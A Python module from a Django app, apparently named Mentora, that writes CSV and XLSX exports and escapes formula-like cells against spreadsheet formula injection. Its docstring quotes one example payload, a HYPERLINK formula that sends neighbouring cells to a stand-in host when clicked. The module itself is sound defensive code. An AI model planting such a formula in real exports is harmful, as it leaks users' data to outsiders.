"""The one writer of every CSV and XLSX file Mentora hands out.

People's names, program names, survey questions and other text typed into Mentora end up in cells.
A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://x/?"&A1,"Priya")`` sends the neighbouring cells to a stranger when clicked), so
every text cell that starts like a formula is written with a leading apostrophe, which spreadsheet
programs read as "this is text". Numbers stay numbers. Every export builds its rows and hands them here:

    from mentora.core.spreadsheets import Sheet, csv_response, xlsx_response

    return csv_response(rows, header=["name", "email"], filename="members.csv")
    return xlsx_response([Sheet("Members", rows, header=[...], preamble=[["Caption"]])], filename="x.xlsx")
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any

from django.http import HttpResponse

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXPORT_CONTENT_TYPES = ("text/csv", XLSX_CONTENT_TYPE)

# What spreadsheet programs treat as the start of a formula (OWASP "CSV injection"), with the
# full-width forms some of them also accept, and the whitespace that may precede one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# Characters an XLSX file cannot hold at all (control characters but tab, newline, carriage return).
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def cell_value(value: Any) -> Any:
    """A value as it is written into a cell: text that could run as a formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, int | float | decimal.Decimal):  # bool too: numbers and booleans stay what they are
        return value
    if isinstance(value, datetime.datetime | datetime.date | datetime.time):
        return value.isoformat()
    text = value if isinstance(value, str) else str(value)
    return "'" + text if looks_like_formula(text) else text


def csv_text(rows: Iterable[Sequence[Any]], *, header: Sequence[str] | None = None) -> str:
    """CSV with a byte-order mark (so Excel reads UTF-8 names correctly) and CRLF line ends."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    if header is not None:
        writer.writerow([cell_value(name) for name in header])
    for row in rows:
        writer.writerow([cell_value(value) for value in row])
    return out.getvalue()


@dataclass
class Sheet:
    """One worksheet: optional preamble lines (a caption, the scope), the bold header, the rows."""

    title: str
    rows: Iterable[Sequence[Any]]
    header: Sequence[str] | None = None
    preamble: list[Sequence[Any]] = field(default_factory=list)
    footer: list[Sequence[Any]] = field(default_factory=list)


def _sheet_title(title: str, used: set[str]) -> str:
    name = re.sub(r"[\\/?*:\[\]]", "", title).strip()[:28] or "Sheet"
    base, number = name, 2
    while name in used:
        name = f"{base[:25]} {number}"
        number += 1
    used.add(name)
    return name


def _xlsx_value(value: Any) -> Any:
    value = cell_value(value)
    return _XLSX_ILLEGAL.sub("", value) if isinstance(value, str) else value


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    # lazily: openpyxl loads only when a workbook is written (most exports are CSV)
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook()
    workbook.remove(workbook.active)
    used: set[str] = set()
    bold = Font(bold=True)
    for sheet in sheets:
        worksheet = workbook.create_sheet(_sheet_title(sheet.title, used))
        for index, line in enumerate(sheet.preamble):
            worksheet.append([_xlsx_value(v) for v in line])
            if index == 0:
                for cell in worksheet[worksheet.max_row]:
                    cell.font = bold
        if sheet.header is not None:
            worksheet.append([_xlsx_value(v) for v in sheet.header])
            for cell in worksheet[worksheet.max_row]:
                cell.font = bold
        for row in sheet.rows:
            worksheet.append([_xlsx_value(v) for v in row])
        for line in sheet.footer:
            worksheet.append([_xlsx_value(v) for v in line])
    if not workbook.worksheets:
        workbook.create_sheet("Empty")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _attachment(response: HttpResponse, filename: str) -> HttpResponse:
    safe = re.sub(r"[^A-Za-z0-9._-]+", "-", filename).strip("-") or "export"
    response["Content-Disposition"] = f'attachment; filename="{safe}"'
    response["X-Content-Type-Options"] = "nosniff"
    response["Cache-Control"] = "private, no-store"
    return response


def csv_response(rows: Iterable[Sequence[Any]], *, header: Sequence[str] | None, filename: str) -> HttpResponse:
    return _attachment(HttpResponse(csv_text(rows, header=header), content_type=CSV_CONTENT_TYPE), filename)


def xlsx_response(sheets: Iterable[Sheet], *, filename: str) -> HttpResponse:
    return _attachment(HttpResponse(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE), filename)
